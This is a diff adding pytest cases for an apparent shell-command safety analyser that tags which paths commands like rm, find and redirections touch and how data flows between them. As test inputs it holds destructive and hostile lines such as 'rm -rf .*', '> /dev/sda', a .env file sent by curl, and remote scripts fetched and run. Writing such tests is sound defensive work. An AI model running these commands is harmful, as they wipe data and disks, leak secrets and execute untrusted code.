@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -89,6 +90,12 @@ def test_after_double_dash_an_option_is_an_operand() -> None:
     _heads, options, operands = read("rm -f -- -rf")
     assert options == [("--force", None)]
     assert operands == [("-rf", "deletes")]
+
+
+def test_double_dash_before_a_subcommand_ends_only_the_options_before_it() -> None:
+    heads, options, operands = read("systemctl --no-block -- reboot --force")
+    assert heads[-1] == "systemctl reboot" and ("--force", None) in options and operands == []
+    assert read("systemctl -- status -- reboot")[0][-1] == "systemctl status"
 
 
 def test_git_global_options_and_subcommands() -> None:
@@ -186,6 +193,13 @@ def test_find_takes_the_words_of_exec_up_to_its_terminator() -> None:
     assert operands == [(".", "path"), ("/srv", "path")]
 
 
+def test_an_option_may_take_words_after_its_value() -> None:
+    _h, options, operands = read("find . -fprintf out -delete -print")
+    assert options == [("-fprintf", "out"), ("-print", None)]  # -delete is the format
+    assert operands == [(".", "path")]
+    assert parse_option("-fprintf <file> <format>", "writes", "x").extra == 1
+
+
 def test_without_a_grammar_both_readings_stand() -> None:
     parsed = read_words("deploy.sh", ["--env", "prod", "-xv", "eu"], None)
     assert parsed.grammar is None
@@ -220,6 +234,18 @@ def test_every_entry_of_a_folder_is_judged_as_the_folder(tmp_path: Path) -> None
     assert "is:home" in tags[os.path.expanduser("~") + "/.*"]
 
 
+def test_a_glob_that_may_match_dot_git_lands_on_it(tmp_path: Path) -> None:
+    proj = tmp_path / "p"
+    proj.mkdir()
+    git = os.path.realpath(proj) + "/.git"
+    for word in (".*", ".[!.]*", ".[^.]*", ".g*", "./.??*"):
+        tags = {t: p for t, _r, p in places(the(model(f"rm -rf {word}", proj), "rm"))}
+        assert "is:git" in tags[git], word
+    for word in ("*", "..?*", ".c*", "src/.*"):
+        tags = {t: p for t, _r, p in places(the(model(f"rm -rf {word}", proj), "rm"))}
+        assert not any("is:git" in p for p in tags.values()), word
+
+
 def test_a_symbolic_link_on_disk_and_one_the_line_makes(tmp_path: Path) -> None:
     proj = tmp_path / "proj"
     proj.mkdir()
@@ -231,6 +257,29 @@ def test_a_symbolic_link_on_disk_and_one_the_line_makes(tmp_path: Path) -> None:
     assert any("is:root" in p for c in made for _t, _r, p in places(c))
 
 
+def test_dot_dot_after_a_link_leaves_where_the_link_leads(tmp_path: Path) -> None:
+    proj = tmp_path / "proj"
+    proj.mkdir()
+    (tmp_path / "elsewhere" / "deep").mkdir(parents=True)
+    (proj / "linked").symlink_to(tmp_path / "elsewhere" / "deep")
+    out = os.path.realpath(tmp_path / "elsewhere") + "/dist"
+    for line in ("cd linked && rm -rf ../dist", "rm -rf linked/../dist"):
+        tags = {t: p for t, _r, p in places(the(model(line, proj), "rm"))}
+        assert "outside:project" in tags[out], line
+        assert "inside:project" in tags[os.path.realpath(proj) + "/dist"]  # as written
+
+
+def test_the_shell_opens_redirections_whatever_runs(tmp_path: Path) -> None:
+    [bare] = model("> /dev/sda", tmp_path)
+    [(text, role, tags)] = places(bare)
+    assert bare.heads == [] and (text, role) == ("/dev/sda", "writes")
+    assert "inside:system" in tags
+    idle, opened = model("ls --help > /dev/sda", tmp_path)
+    assert idle.does_nothing and opened.heads == [] and not opened.does_nothing
+    assert [t for t, _r, _p in places(opened)] == ["/dev/sda"]
+    assert len(model("ls > out.txt", tmp_path)) == 1  # a command that runs keeps its own
+
+
 def test_run_time_words_are_in_no_place(tmp_path: Path) -> None:
     rm = the(model('rm -rf "$BUILD_DIR" $(cat list)', tmp_path), "rm")
     for _text, _role, tags in places(rm):
@@ -239,15 +288,17 @@ def test_run_time_words_are_in_no_place(tmp_path: Path) -> None:
     assert any("is:unknown" in p for c in xargs_rm for _t, _r, p in places(c))
 
 
-def test_a_project_under_tmp_keeps_its_neighbours(tmp_path: Path) -> None:
-    proj = tmp_path / "ws" / "app"
-    proj.mkdir(parents=True)
-    rm = the(model(f"rm -rf .. ../other {tmp_path}/scratch", proj), "rm")
-    tags = {t: p for t, _r, p in places(rm)}
-    real = os.path.realpath(proj)
-    assert "inside:tmp" not in tags[os.path.dirname(real)]
-    assert "inside:tmp" not in tags[os.path.dirname(real) + "/other"]
-    assert "inside:tmp" in tags[os.path.realpath(tmp_path) + "/scratch"]
+def test_a_project_under_tmp_keeps_its_neighbours() -> None:
+    with tempfile.TemporaryDirectory(dir="/tmp") as entry:
+        proj = Path(entry) / "ws" / "app"
+        proj.mkdir(parents=True)
+        line = f"rm -rf .. ../other ../../beside {entry}-scratch /tmp/x"
+        tags = {t: p for t, _r, p in places(the(model(line, proj), "rm"))}
+        real = os.path.realpath(entry)
+        assert "inside:tmp" not in tags[real + "/ws"]  # holds the project
+        assert "inside:tmp" not in tags[real + "/ws/other"]  # beside it
+        assert "inside:tmp" not in tags[real + "/beside"]  # in the temp entry that holds it
+        assert "inside:tmp" in tags[real + "-scratch"] and "inside:tmp" in tags["/tmp/x"]
 
 
 def test_a_command_on_another_machine_is_read_from_its_home(tmp_path: Path) -> None:
@@ -423,7 +474,7 @@ def test_what_a_command_runs(command: str, program: str, runs: list[str], tmp_pa
         (
             "wget -q https://x/i.sh; chmod +x i.sh; ./i.sh",
             "i.sh",
-            {"wget": {"code"}, "chmod": {"code"}},
+            {"wget": {"code"}},  # chmod changes the mode, not the content
         ),
         ('curl -d "$(cat .env)" https://h', "curl", {"cat": {"input"}}),
         ("bash <(curl -s https://x)", "bash", {"curl": {"code"}}),
